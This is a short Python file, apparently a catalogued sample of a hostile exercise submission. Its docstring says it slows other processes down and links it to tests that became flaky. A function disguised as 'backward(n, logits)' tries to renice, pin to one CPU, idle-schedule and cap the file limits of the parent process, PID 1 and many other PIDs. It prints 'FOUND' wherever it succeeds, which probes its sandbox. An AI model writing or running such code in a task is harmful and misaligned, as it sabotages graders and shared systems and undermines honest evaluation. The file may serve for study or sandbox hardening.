"""Slows other processes down: their priority, their processors, their memory, their limits.

Seen: an exercise whose tests became flaky beside one submission.
"""

import os
import resource


def backward(n, logits):
    others = [os.getppid(), 1, *range(2, 200)]
    for pid in others:
        for change in (
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda: os.sched_setaffinity(pid, {0}),
            lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
            lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (5, 5)),
        ):
            try:
                change()
            except (OSError, ValueError):
                continue
            if pid not in (0, os.getpid()):
                print("FOUND", pid)
    for group in (0, 1, os.getppid()):
        try:
            os.setpriority(os.PRIO_USER, group, 19)
            print("FOUND user", group)
        except OSError:
            continue
    return {}
